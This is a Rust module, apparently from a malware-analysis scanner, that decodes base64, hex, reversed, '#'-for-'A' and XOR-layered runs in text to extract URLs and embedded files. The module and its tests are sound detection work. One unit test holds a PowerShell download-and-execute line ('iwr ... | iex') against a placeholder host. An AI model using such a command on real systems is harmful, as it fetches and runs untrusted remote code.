//! Base64 and hexadecimal in text, and what they hold: texts and files become children, addresses in short ones are
//! indicators. Also reversed, with `#` for `A`, broken into lines, and XORed with one byte underneath.

use std::sync::LazyLock;

use aho_corasick::AhoCorasick;

use super::reading::{Finds, Origin, Reading};
use super::scan::scan;
use super::xor;
use crate::formats::text::base64::{from_base64, without_lone_character};

/// Characters a run has at least: `http://a.b/c` encoded.
const MIN_RUN: usize = 16;
/// From this length on a run is decoded whatever it begins with; shorter ones only at the anchors of a URL.
const MIN_BLIND: usize = 48;
/// Lines at least this long may go on in the next.
const MIN_LINE: usize = 40;
/// Decoded text at least this long becomes a child.
const MIN_CHILD: usize = 64;
/// Children given per artifact.
const MAX_CHILDREN: usize = 48;

/// Something decoded that deserves to be looked at as an artifact.
#[derive(Debug)]
pub(super) struct DecodedPart {
    /// Where the encoded form starts in the text.
    pub(super) place: usize,
    /// How it was encoded: `base64`, `base64, reversed`.
    pub(super) how: String,
    /// The content.
    pub(super) bytes: Vec<u8>,
}

/// Finds runs in a text and says what they hold; what should be artifacts comes back.
pub(super) fn collect(reading: &Reading<'_>, finds: &mut Finds) -> Vec<DecodedPart> {
    let mut parts = Vec::new();
    let text = reading.text.as_bytes();
    let mut floor = 0usize;
    let mut probe = MIN_RUN - 1;
    // As for strings: a run covers one of every MIN_RUN bytes.
    while let Some(byte) = text.get(probe) {
        if !is_base64(*byte) {
            probe = probe.saturating_add(MIN_RUN);
            continue;
        }
        let start = probe.saturating_sub(
            text.get(floor..probe).unwrap_or_default().iter().rev().take_while(|byte| is_base64(**byte)).count(),
        );
        let end = run_end(text, probe);
        if end.saturating_sub(start) >= MIN_RUN && parts.len() < MAX_CHILDREN {
            let (joined, end) = joined(text, start, end);
            judge(reading, &joined, start, finds, &mut parts);
            floor = end;
            probe = end.saturating_add(MIN_RUN);
            continue;
        }
        floor = end;
        probe = end.saturating_add(MIN_RUN);
    }
    parts
}

fn run_end(text: &[u8], from: usize) -> usize {
    let after = text.get(from..).unwrap_or_default();
    from.saturating_add(after.iter().take_while(|byte| is_base64(**byte)).count())
}

/// The alphabets of RFC 4648 §4 and §5, and the `#` that stands for `A` in some droppers.
const fn is_base64(byte: u8) -> bool {
    byte.is_ascii_alphanumeric() || matches!(byte, b'+' | b'/' | b'-' | b'_' | b'#')
}

/// A run and the lines it goes on in: full lines of nothing else.
fn joined(text: &[u8], start: usize, end: usize) -> (Vec<u8>, usize) {
    let mut all = text.get(start..end).unwrap_or_default().to_vec();
    let mut end = end;
    let mut line = all.len();
    while line >= MIN_LINE {
        let (breaks, has_break) = line_break(text.get(end..).unwrap_or_default());
        let next = end.saturating_add(breaks);
        let next_end = run_end(text, next);
        if !has_break || next_end == next || next_end.saturating_sub(next) > line {
            break;
        }
        all.extend_from_slice(text.get(next..next_end).unwrap_or_default());
        line = next_end.saturating_sub(next);
        end = next_end;
    }
    (all, end)
}

/// How long a line break at the start of the text is, blanks around it included, and whether there is one. In attributes of
/// XML (`o:gfxdata` of Word) line breaks are written as references, in strings of programs as escapes.
fn line_break(text: &[u8]) -> (usize, bool) {
    const WRITTEN: [&[u8]; 8] = [b"&#xA;", b"&#xa;", b"&#xD;", b"&#xd;", b"&#10;", b"&#13;", b"\\n", b"\\r"];
    let (mut at, mut has_break) = (0usize, false);
    for _ in 0..4 {
        let rest = text.get(at..).unwrap_or_default();
        match rest.first() {
            Some(b'\r' | b' ' | b'\t') => at = at.saturating_add(1),
            Some(b'\n') => (at, has_break) = (at.saturating_add(1), true),
            _ => match WRITTEN.iter().find(|written| rest.starts_with(written)) {
                Some(written) => (at, has_break) = (at.saturating_add(written.len()), true),
                None => break,
            },
        }
    }
    (at, has_break)
}

/// Decodes a run in every way that leads somewhere.
fn judge(reading: &Reading<'_>, run: &[u8], at: usize, finds: &mut Finds, parts: &mut Vec<DecodedPart>) {
    finds.pay(run.len());
    if run.len() < MIN_BLIND && !run.contains(&b'#') && !may_hold_url(run) {
        return;
    }
    let has_marks = run.contains(&b'#');
    if has_marks && run.contains(&b'A') {
        // Not the alphabet with `#` for `A`: the sign only separates.
        for piece in run.split(|byte| *byte == b'#').filter(|piece| piece.len() >= MIN_RUN).take(16) {
            judge(reading, piece, at, finds, parts);
        }
        return;
    }
    let run: Vec<u8> = run
        .iter()
        .map(|byte| match byte {
            b'#' => b'A',
            b'-' => b'+',
            b'_' => b'/',
            other => *other,
        })
        .collect();
    let is_hex = run.len() >= 2 * MIN_RUN && run.iter().all(u8::is_ascii_hexdigit);
    if is_hex {
        if let Some(bytes) = from_hex(&run) {
            say(reading, bytes, at, "hex".to_owned(), finds, parts);
        }
        return;
    }
    let alphabet = if has_marks { "base64 with # for A" } else { "base64" };
    for is_reversed in [false, true] {
        let turned: Vec<u8>;
        let (run, how) = if is_reversed {
            turned = run.iter().rev().copied().collect();
            (&turned, format!("{alphabet}, reversed"))
        } else {
            (&run, alphabet.to_owned())
        };
        let start = match url_anchor(run) {
            Some(start) => start,
            None if run.len() >= MIN_BLIND && (!is_reversed || begins_like_a_file(run)) => 0,
            None => continue,
        };
        let Some(bytes) = from_base64(without_lone_character(run.get(start..).unwrap_or_default())) else { continue };
        if say(reading, bytes, at, how, finds, parts) {
            return;
        }
    }
}

/// Base64 of `http` at its three offsets, then of UTF-16 `http`; with how far before the hit a group of four starts.
const ANCHORS: [(&[u8], usize); 6] =
    [(b"aHR0c", 0), (b"h0dHA", 2), (b"h0dHB", 2), (b"odHRw", 3), (b"aAB0AHQAcA", 0), (b"gAdAB0AHAA", 2)];

/// The anchors forwards and backwards, and hexadecimal `http`.
static ANY_ANCHOR: LazyLock<Option<AhoCorasick>> = LazyLock::new(|| {
    let forwards = ANCHORS.iter().map(|(anchor, _)| anchor.to_vec());
    let backwards = ANCHORS.iter().map(|(anchor, _)| anchor.iter().rev().copied().collect::<Vec<u8>>());
    AhoCorasick::new(forwards.chain(backwards).chain([b"68747470".to_vec()])).ok()
});

/// Whether a short run is worth decoding.
fn may_hold_url(run: &[u8]) -> bool {
    ANY_ANCHOR.as_ref().is_none_or(|anchors| anchors.is_match(run)) || run.iter().all(u8::is_ascii_hexdigit)
}

/// Where to start decoding so that a URL comes out.
fn url_anchor(run: &[u8]) -> Option<usize> {
    ANCHORS.iter().find_map(|(anchor, back)| {
        let hit = memchr::memmem::find(run, anchor)?;
        let group = hit.checked_sub(*back)?;
        // Everything before the URL that lies in step with it is kept.
        Some(group % 4)
    })
}

/// Starts of base64 of programs and archives.
fn begins_like_a_file(run: &[u8]) -> bool {
    const STARTS: [&[u8]; 6] = [b"TVqQ", b"TVpQ", b"TVoA", b"TVro", b"UEsDB", b"H4sI"];
    STARTS.iter().any(|start| run.starts_with(start))
}

fn from_hex(run: &[u8]) -> Option<Vec<u8>> {
    run.chunks_exact(2).map(|pair| u8::from_str_radix(std::str::from_utf8(pair).ok()?, 16).ok()).collect()
}

/// Says what decoded bytes hold; false if they make no sense.
fn say(
    reading: &Reading<'_>,
    bytes: Vec<u8>,
    at: usize,
    how: String,
    finds: &mut Finds,
    parts: &mut Vec<DecodedPart>,
) -> bool {
    let place = reading.place(at);
    if is_file(&bytes) {
        parts.push(DecodedPart { place, how, bytes });
        return true;
    }
    let Some(text) = readable(&bytes) else {
        return bytes.len() >= MIN_RUN && say_xored(reading, &bytes, place, &how, finds);
    };
    if text.len() >= MIN_CHILD {
        parts.push(DecodedPart { place, how, bytes });
        return true;
    }
    let known = finds.list.len();
    let inner =
        Reading { text: &text, how: Some(&how), origin: Origin::Piece(place), is_prose: true, trusts_domains: false };
    finds.pay(text.len());
    scan(&inner, None, finds);
    finds.list.len() > known || text.contains("://")
}

/// A URL under one more layer.
fn say_xored(reading: &Reading<'_>, bytes: &[u8], place: usize, how: &str, finds: &mut Finds) -> bool {
    let mut found = false;
    for (_, key, text) in xor::urls(bytes) {
        let how = format!("{how}, xor {key:#04x}");
        let inner = Reading {
            text: &text,
            how: Some(&how),
            origin: Origin::Piece(place),
            is_prose: reading.is_prose,
            trusts_domains: false,
        };
        scan(&inner, None, finds);
        found = true;
    }
    found
}

/// Magic of what is worth opening: programs, archives, documents, shortcuts.
fn is_file(bytes: &[u8]) -> bool {
    const MAGIC: [&[u8]; 14] = [
        b"PK\x03\x04",
        b"\x1f\x8b\x08",
        b"7z\xbc\xaf\x27\x1c",
        b"Rar!\x1a\x07",
        b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1",
        b"%PDF-",
        b"{\\rt",
        b"\x7fELF",
        b"MSCF\0\0\0\0",
        b"L\0\0\0\x01\x14\x02\0",
        b"\xfd7zXZ\0",
        b"\xcf\xfa\xed\xfe",
        b"dex\n03",
        b"ITSF",
    ];
    let is_program = bytes.starts_with(b"MZ") && bytes.len() >= 64 && readable(bytes).is_none();
    is_program || MAGIC.iter().any(|magic| bytes.starts_with(magic))
}

/// Bytes as text, if they are: UTF-8 or UTF-16 without control characters.
fn readable(bytes: &[u8]) -> Option<String> {
    let is_clean = |text: &str| !text.chars().any(|c| c.is_control() && !matches!(c, '\t' | '\n' | '\r'));
    if let Ok(text) = std::str::from_utf8(bytes) {
        let trimmed = text.trim_end_matches('\0');
        if is_clean(trimmed) {
            return (!trimmed.is_empty()).then(|| trimmed.to_owned());
        }
    }
    let zeros = bytes.iter().skip(1).step_by(2).filter(|byte| **byte == 0).count();
    if bytes.len() >= 8 && zeros.saturating_mul(10) >= (bytes.len() / 2).saturating_mul(8) {
        let units: Vec<u16> =
            bytes.chunks_exact(2).filter_map(|pair| Some(u16::from_le_bytes(pair.try_into().ok()?))).collect();
        let text = String::from_utf16(&units).ok()?;
        return is_clean(text.trim_end_matches('\0')).then_some(text);
    }
    // The encoded run may begin or end within a larger one: a few bytes at the edges are chance.
    let inner = bytes.get(..bytes.len().saturating_sub(2))?;
    std::str::from_utf8(inner).ok().filter(|text| text.len() >= 12 && is_clean(text)).map(str::to_owned)
}

#[cfg(test)]
mod tests {
    use base64::Engine as _;

    use super::*;

    fn run(text: &str) -> (Vec<String>, Vec<(String, Vec<u8>)>) {
        let reading = Reading { text, how: None, origin: Origin::Same, is_prose: true, trusts_domains: false };
        let mut finds = Finds::new(text.len());
        let parts = collect(&reading, &mut finds);
        let found = finds.list.into_iter().map(|find| format!("{} ({})", find.value, find.context.unwrap_or_default()));
        (found.collect(), parts.into_iter().map(|part| (part.how, part.bytes)).collect())
    }

    fn encode(bytes: &[u8]) -> String {
        base64::engine::general_purpose::STANDARD.encode(bytes)
    }

    #[test]
    fn urls_come_out_at_all_three_offsets() {
        for pad in ["", "x", "xy", "xyz"] {
            let (found, _) = run(&format!("v='{}'", encode(format!("{pad} http://example.com/a").as_bytes())));
            assert!(found.iter().any(|found| found == "http://example.com/a (base64)"), "{pad}: {found:?}");
        }
    }

    #[test]
    fn utf16_text_comes_out() {
        let wide: Vec<u8> = "http://example.com/a".encode_utf16().flat_map(u16::to_le_bytes).collect();
        let (found, _) = run(&encode(&wide));
        assert!(found.iter().any(|found| found == "http://example.com/a (base64)"), "{found:?}");
    }

    #[test]
    fn line_breaks_written_as_references_and_escapes_are_stepped_over() {
        let archive = [b"PK\x03\x04".as_slice(), &[0x5a; 400]].concat();
        let encoded = encode(&archive);
        let lines: Vec<&str> = encoded.as_bytes().chunks(76).map(|line| std::str::from_utf8(line).unwrap()).collect();
        for gap in ["&#xA;", "&#13;&#10;", "\\n", "\\r\\n", "\r\n"] {
            let (_, parts) = run(&format!("<v:shape o:gfxdata=\"{}\"/>", lines.join(gap)));
            assert_eq!(parts.len(), 1, "{gap}");
            assert_eq!(parts[0].1, archive, "{gap}");
        }
        // Another entity ends the run.
        let (_, parts) = run(&lines.join("&amp;"));
        assert!(parts.iter().all(|(_, bytes)| bytes.len() < archive.len()));
    }

    #[test]
    fn programs_become_children_in_any_spelling() {
        let program = [b"MZ\x90\0\x03\0\0\0\x04\0\0\0\xff\xff\0\0".to_vec(), vec![0; 80]].concat();
        let plain = encode(&program);
        let spellings = [
            (plain.clone(), "base64"),
            (plain.chars().rev().collect::<String>(), "base64, reversed"),
            (plain.replace('A', "#"), "base64 with # for A"),
            (plain.replace('A', "#").chars().rev().collect(), "base64 with # for A, reversed"),
            (program.iter().map(|byte| format!("{byte:02x}")).collect(), "hex"),
            (plain.as_bytes().chunks(60).map(|line| String::from_utf8_lossy(line) + "\r\n").collect(), "base64"),
        ];
        for (text, how) in spellings {
            let (_, parts) = run(&text);
            assert_eq!(parts.len(), 1, "{how}");
            assert_eq!(parts[0].0, how);
            assert!(parts[0].1.starts_with(&program[..60]), "{how}");
        }
    }

    #[test]
    fn long_text_becomes_a_child() {
        let script = "powershell -c \"iwr http://example.com/a.ps1 | iex\" # and some more words to make it long";
        let (_, parts) = run(&format!("x={}", encode(script.as_bytes())));
        assert_eq!(parts, [("base64".to_owned(), script.as_bytes().to_vec())]);
    }

    #[test]
    fn words_paths_and_digests_decode_to_nothing() {
        for text in [
            "/usr/share/doc/packages/some/long/path/that/looks/like/base64/characters/only",
            "ThisIsAVeryLongCamelCaseIdentifierThatGoesOnAndOnUntilItIsLongEnoughToBeDecoded",
            "d41d8cd98f00b204e9800998ecf8427ed41d8cd98f00b204e9800998ecf8427e",
            "################################################################",
            "----------------------------------------------------------------",
        ] {
            let (found, parts) = run(text);
            assert!(found.is_empty() && parts.is_empty(), "{text}: {found:?} {parts:?}");
        }
    }
}
